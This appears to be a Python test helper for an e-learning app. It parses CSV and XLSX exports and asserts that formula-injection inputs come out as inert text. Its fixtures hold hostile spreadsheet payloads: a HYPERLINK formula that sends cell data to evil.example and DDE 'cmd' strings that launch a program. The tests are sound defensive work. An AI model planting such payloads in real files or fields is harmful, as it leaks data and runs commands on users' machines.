"""Read a CSV or XLSX download the way a spreadsheet would, for the
formula-injection tests of every export."""

from __future__ import annotations

import csv
import io

from elearning.spreadsheets import FORMULA_PREFIXES

# What hostile people type as their name, a page title or a link: each one
# runs (or hides) a formula when a spreadsheet opens the file raw.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"


def cells(response) -> list:
    """Every cell of the file, CSV parsed with ``csv`` and XLSX with
    openpyxl (its typed values: numbers and dates stay so)."""
    content = (
        b"".join(response.streaming_content)
        if getattr(response, "streaming", False)
        else response.content
    )
    if "spreadsheetml" in response["Content-Type"]:
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(content))
        found = [
            cell
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
        # No cell is stored as a formula, whatever its text.
        assert not [c.value for c in found if c.data_type == "f"]
        return [cell.value for cell in found]
    assert response["Content-Type"].startswith("text/csv")
    text = content.decode("utf-8-sig")
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def assert_inert(values: list, *formulas: str) -> None:
    """Each planted formula is there, made text with a leading apostrophe,
    and no text cell at all starts like a formula."""
    texts = [v for v in values if isinstance(v, str)]
    live = [v for v in texts if v.startswith(FORMULA_PREFIXES)]
    assert live == [], live
    for formula in formulas:
        assert any(v.startswith("'" + formula) for v in texts), (formula, texts)
